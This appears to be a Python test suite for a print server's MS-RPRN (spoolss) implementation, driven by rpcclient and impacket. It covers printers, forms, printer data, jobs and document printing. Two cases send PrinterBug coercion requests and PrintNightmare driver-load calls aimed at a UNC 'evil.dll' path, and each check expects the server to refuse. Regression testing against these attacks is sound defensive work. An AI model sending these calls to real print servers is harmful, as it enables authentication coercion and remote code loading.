#!/usr/bin/python3
"""rpcclient and impacket at the print server: printers seen at every level and managed, forms, values, jobs, a document printed by
RpcWritePrinter, and what nobody may do: bring code along, or make the server call somewhere."""

import json
import pathlib
import re
import socket
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness.report import expect, expect_equal  # noqa: E402
from harness.servers import SECOND_USER, Profile  # noqa: E402
from harness.target import Suite  # noqa: E402

try:
    from impacket.dcerpc.v5 import rprn, transport
    from impacket.dcerpc.v5.rprn import DCERPCSessionError  # noqa: F401 (looked for beside the calls)
    from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, NULL, ULONG
    from impacket.dcerpc.v5.ndr import NDRCALL, NDRPOINTER, NDRSTRUCT, NDRUNION, NDRUniConformantArray
    from impacket.dcerpc.v5.rpcrt import DCERPCException
except ImportError as error:
    print(f"skip impacket {error} (package python3-impacket)\n0 passed, 0 failed, 1 skipped")
    sys.exit(0)

DOCUMENT = b"%!PS-Adobe-3.0\n" + bytes(range(256)) * 400 + b"\nshowpage\n"
PATIENCE = 30  # seconds for a job to get to its folder
PRINTER_ACCESS_USE = 8
USE_AND_ADMINISTER = 0x0C


class DocInfo(NDRSTRUCT):
    structure = (("pDocName", LPWSTR), ("pOutputFile", LPWSTR), ("pDatatype", LPWSTR))


class DocInfoPointer(NDRPOINTER):
    referent = (("Data", DocInfo),)


class DocInfoUnion(NDRUNION):
    commonHdr = (("tag", ULONG),)
    union = {1: ("pDocInfo1", DocInfoPointer)}


class DocInfoContainer(NDRSTRUCT):
    structure = (("Level", DWORD), ("DocInfo", DocInfoUnion))


class Bytes(NDRUniConformantArray):
    item = "c"


def operation(number, arguments, results=()):
    """A call and its response, as impacket looks them up."""
    call = type(f"Rpc{number}", (NDRCALL,), {"opnum": number, "structure": (("hPrinter", rprn.PRINTER_HANDLE), *arguments)})
    answer = type(f"Rpc{number}Response", (NDRCALL,), {"structure": (*results, ("ErrorCode", ULONG))})
    setattr(sys.modules[__name__], call.__name__, call)
    setattr(sys.modules[__name__], answer.__name__, answer)
    call.__module__ = answer.__module__ = __name__
    return call


StartDoc = operation(17, [("pDocInfoContainer", DocInfoContainer)], [("pJobId", DWORD)])
StartPage = operation(18, [])
WritePrinter = operation(19, [("pBuf", Bytes), ("cbBuf", DWORD)], [("pcWritten", DWORD)])
EndPage = operation(20, [])
AbortPrinter = operation(21, [])
EndDoc = operation(23, [])


class Impacket:
    """A print client of impacket's own stack."""

    def __init__(self, server, user=None):
        link = transport.SMBTransport(server.host, server.port, r"\spoolss", user or server.user, server.password)
        self.call = link.get_dce_rpc()
        self.call.connect()
        self.call.bind(rprn.MSRPC_UUID_RPRN)

    def open(self, name, access=PRINTER_ACCESS_USE):
        return rprn.hRpcOpenPrinter(self.call, name + "\x00", accessRequired=access)["pHandle"]

    def ask(self, call, handle, **arguments):
        request = call()
        request["hPrinter"] = handle
        for name, value in arguments.items():
            request[name] = value
        return self.call.request(request)

    def start(self, handle, name):
        request = StartDoc()
        request["hPrinter"] = handle
        container = request["pDocInfoContainer"]
        container["Level"] = 1
        container["DocInfo"]["tag"] = 1
        container["DocInfo"]["pDocInfo1"]["pDocName"] = name + "\x00"
        container["DocInfo"]["pDocInfo1"]["pOutputFile"] = NULL
        container["DocInfo"]["pDocInfo1"]["pDatatype"] = "RAW\x00"
        return self.call.request(request)["pJobId"]

    def write(self, handle, data):
        return self.ask(WritePrinter, handle, pBuf=list(data[i : i + 1] for i in range(len(data))), cbBuf=len(data))["pcWritten"]


def expect_error(code, call, *arguments, **named):
    try:
        call(*arguments, **named)
    except DCERPCException as error:
        expect_equal(error.get_error_code(), code, "error")
    else:
        raise AssertionError(f"succeeded, wanted {code}")


def wait_until(what, so):
    deadline = time.monotonic() + PATIENCE
    while time.monotonic() < deadline:
        if found := so():
            return found
        time.sleep(0.05)
    raise AssertionError(f"never: {what}")


class Cases:
    def __init__(self, server, folder):
        self.server, self.folder = server, folder
        self.name = f"\\\\{server.host}\\folder"

    def rpcclient(self, command, user=None):
        login = f"{user or self.server.user}%{self.server.password}"
        arguments = ["rpcclient", "-s", "/dev/null", "-p", str(self.server.port), "-U", login, self.server.host, "-c", command]
        done = subprocess.run(arguments, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        return done.stdout + done.stderr

    def must(self, command, user=None):
        output = self.rpcclient(command, user)
        expect("WERR_" not in output.replace("WERR_OK", "") and "NT_STATUS_" not in output, f"{command}: {output}")
        return output

    def printers(self):
        """Every level of RpcEnumPrinters and RpcGetPrinter."""
        for level in (0, 1, 2, 4, 5):
            seen = self.must(f"enumprinters {level}", SECOND_USER)
            expect("folder" in seen and "held" in seen, f"level {level}: {seen}")
        for level in range(9):
            self.must(f"getprinter folder {level}")
        seen = self.must("getprinter folder 2")
        expect(re.search(r"comment:\[for all\]", seen), seen)
        expect(re.search(r"sharename:\[folder\]", seen) and "winprint" in seen and "RAW" in seen, seen)
        expect("private" not in self.must("enumprinters 1", SECOND_USER), "a printer that is not for everybody")
        expect("WERR_INVALID_PRINTER_NAME" in self.rpcclient("getprinter toaster"), "a printer that is not there")
        self.must("getprintername folder")

    def places(self):
        """Ports, monitors, processors, drivers and where they would be."""
        expect("Local Port" in self.must("enummonitors"), "no monitor")
        expect(str(self.folder) in self.must("enumports 2"), "no port")
        seen = self.must("enumports 1", SECOND_USER)
        expect("held" in seen and str(self.folder) not in seen, f"where printers are is not for everybody: {seen}")
        expect("winprint" in self.must("enumprocs"), "no processor")
        expect("RAW" in self.must("enumprocdatatypes"), "no datatype")
        expect("x64" in self.must("getdriverdir 'Windows x64'"), "no directory")
        for command in ("enumdrivers 1", "enumdrivers 3", "openprinter_ex folder"):
            self.must(command)
        expect("WERR_UNKNOWN_PRINTER_DRIVER" in self.rpcclient("getdriver folder"), "a driver")

    def forms(self):
        expect("A4" in self.must("enumforms folder"), "no A4")
        self.must("getform folder A4")
        self.must("addform folder tinyform 1")
        expect("tinyform" in self.must("enumforms folder"), "it was not added")
        self.must("setform folder tinyform 1")
        self.must("deleteform folder tinyform")
        expect("tinyform" not in self.must("enumforms folder"), "it is still there")
        expect("WERR_ACCESS_DENIED" in self.rpcclient("addform folder theirs 1", SECOND_USER), "everybody adds forms")

    def values(self):
        self.must("setprinterdata folder string Margin wide")
        expect("wide" in self.must("getdata folder Margin", SECOND_USER), "it is not kept")
        expect("Margin" in self.must("enumdata folder"), "not among all")
        expect("PrinterDriverData" in self.must("enumkey folder ''"), "no key")
        expect("WERR_ACCESS_DENIED" in self.rpcclient("setprinterdata folder string Margin no", SECOND_USER), "everybody")

    def described(self):
        """The comment is changed by who administers the printer, and nobody else."""
        self.must("setprinter held another-remark")
        expect("another-remark" in self.must("getprinter held 2"), "the comment is what it was")
        expect("WERR_ACCESS_DENIED" in self.rpcclient("setprinter held theirs", SECOND_USER), "everybody describes printers")
        expect("WERR_ACCESS_DENIED" in self.rpcclient("setprintername held other"), "printers are renamed")

    def printed(self):
        """A document in pieces, whole in its folder."""
        before = set(self.folder.iterdir())
        client = Impacket(self.server, SECOND_USER)
        handle = client.open(self.name)
        expect(client.start(handle, "report") > 0, "no job")
        client.ask(StartPage, handle)
        for start in range(0, len(DOCUMENT), 40_000):
            piece = DOCUMENT[start : start + 40_000]
            expect_equal(client.write(handle, piece), len(piece), "written")
        client.ask(EndPage, handle)
        expect_equal(set(self.folder.glob("*.ps")) - before, set(), "not before it is whole")
        client.ask(EndDoc, handle)
        new = wait_until("a file", lambda: set(self.folder.glob("*.ps")) - before)
        path = new.pop()
        expect_equal(path.read_bytes(), DOCUMENT, "the document")
        expect(SECOND_USER in path.name and "report" in path.name, f"whose it is: {path.name}")
        expect_error(3003, client.ask, EndDoc, handle)

    def queued(self):
        """Jobs are seen by all who may print, held and taken away by their owner and by who manages the printer."""
        self.lanward("pause", "held")
        client = Impacket(self.server)
        handle = client.open("held")
        job = client.start(handle, "letter")
        client.write(handle, DOCUMENT[:1000])
        client.ask(EndDoc, handle)
        for level in (1, 2):
            seen = self.must(f"enumjobs held {level}", SECOND_USER)
            expect(re.search(rf"jobid\[{job}\]: {self.server.user} letter", seen), f"level {level}: {seen}")
        for level in (1, 2, 3, 4):
            seen = self.must(f"getjob held {job} {level}")
            expect(f"jobid[{job}]" in seen, f"level {level}: {seen}")
        expect("WERR_ACCESS_DENIED" in self.rpcclient(f"setjob held {job} 1", SECOND_USER), "another holds it")
        self.must(f"setjob held {job} 1")
        self.must(f"setjob held {job} 2")
        self.must(f"setjob held {job} 5")
        expect_equal(json.loads(self.lanward("jobs", "held", "--json")), [], "jobs")

    def given_up(self):
        """Neither what is aborted nor what loses its client is printed."""
        client = Impacket(self.server)
        handle = client.open("held")
        client.start(handle, "unwanted")
        client.write(handle, b"half a ")
        client.ask(AbortPrinter, handle)
        client.start(handle, "lost")
        client.write(handle, b"half a ")
        client.call.get_rpc_transport().get_smb_connection().close()
        wait_until("nothing is left", lambda: json.loads(self.lanward("jobs", "held", "--json")) == [])

    def closed(self):
        """A handle that is closed ends its document."""
        before = set(self.folder.iterdir())
        client = Impacket(self.server)
        handle = client.open("folder")
        client.start(handle, "closed")
        client.write(handle, DOCUMENT)
        rprn.hRpcClosePrinter(client.call, handle)
        new = wait_until("a file", lambda: set(self.folder.glob("*.ps")) - before)
        expect_equal(new.pop().read_bytes(), DOCUMENT, "the document")

    def seen(self):
        """Whoever has a printer open is seen with it, with the operation that was called last and for how long, until it is closed."""
        client = Impacket(self.server, SECOND_USER)
        handle = client.open("held")
        self.shown(r"\\PIPE\\spoolss opnum \d+ 00:\d\d:\d\d \(held 00:\d\d:\d\d\)")
        rprn.hRpcClosePrinter(client.call, handle)
        self.shown(r"\\PIPE\\spoolss opnum 29 00:\d\d:\d\d\n")

    def shown(self, wanted):
        command = [str(self.server.binary()), "net", "--config", str(self.server.config), "session", "\\\\127.0.0.1", "--of", SECOND_USER]
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30)
        expect(re.search(wanted, done.stdout), f"{wanted}: {done.stdout}{done.stderr}")

    def enumerated(self):
        client = Impacket(self.server)
        answer = rprn.hRpcEnumPrinters(client.call, rprn.PRINTER_ENUM_LOCAL, level=1)
        expect(answer["pcReturned"] >= 3, "printers")
        expect_error(5, Impacket(self.server, SECOND_USER).open, self.name, USE_AND_ADMINISTER)
        client.open(self.name, USE_AND_ADMINISTER)

    def nobody_is_called(self):
        """The PrinterBug: whoever asks to be told of changes at a place of his choice is refused, and nothing connects there."""
        with socket.create_server(("127.0.0.3", 445)) if can_listen() else socket.create_server(("127.0.0.3", 0)) as bait:
            bait.settimeout(1)
            for user in (self.server.user, SECOND_USER):
                client = Impacket(self.server, user)
                handle = client.open(f"\\\\{self.server.host}", 0)
                for place in ("\\\\127.0.0.3\x00", "127.0.0.3\x00"):
                    expect_error(
                        1722,
                        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx,
                        client.call,
                        handle,
                        0x00000100,
                        pszLocalMachine=place,
                        pOptions=NULL,
                    )
            try:
                bait.accept()
            except TimeoutError:
                return
            raise AssertionError("the server called")

    def nothing_is_loaded(self):
        """PrintNightmare: whoever brings a driver along is refused, administrator or not."""
        for user, code in ((self.server.user, 50), (SECOND_USER, 5)):
            client = Impacket(self.server, user)
            container = rprn.DRIVER_CONTAINER()
            container["Level"] = 2
            container["DriverInfo"]["tag"] = 2
            level = container["DriverInfo"]["Level2"]
            level["cVersion"] = 3
            level["pName"] = "evil\x00"
            level["pEnvironment"] = "Windows x64\x00"
            for path in ("pDriverPath", "pDataFile", "pConfigFile"):
                level[path] = "\\\\127.0.0.3\\share\\evil.dll\x00"
            expect_error(code, rprn.hRpcAddPrinterDriverEx, client.call, NULL, container, 0x8014)

    def lanward(self, *arguments):
        command = [str(self.server.binary()), "printer", *arguments, "--config", str(self.server.config)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=30)
        expect_equal(done.returncode, 0, f"lanward printer {arguments}: {done.stdout}{done.stderr}")
        return done.stdout

    def cases(self):
        names = ["printers", "places", "forms", "values", "described", "printed", "queued", "given_up", "closed"]
        return [*names, "enumerated", "seen", "nobody_is_called", "nothing_is_loaded"]


def can_listen():
    """Whether the port that a server would call at can be had here."""
    try:
        socket.create_server(("127.0.0.3", 445)).close()
    except OSError:
        return False
    return True


def main():
    suite = Suite(__doc__)
    suite.judges_ours_alone("only ours is configured with printers")
    suite.needs("rpcclient", "smbclient")
    folder = suite.work / "printed"
    folder.mkdir()
    folder.chmod(0o777)
    lines = []
    for name, *more in (("folder", 'comment = "for all"'), ("held",), ("private", 'users = ["ward"]')):
        lines += [f"[printer.{name}]", f'to = "{folder}"', *more]
    with suite.server(Profile(administrator=True, extra="\n".join(lines))) as server:
        cases = Cases(server, folder)
        wait_until("printers are there", lambda: "folder" in cases.rpcclient("enumprinters 1"))
        for name in cases.cases():
            suite.report.case(name.replace("_", "-"), getattr(cases, name))
    suite.leave()


if __name__ == "__main__":
    main()
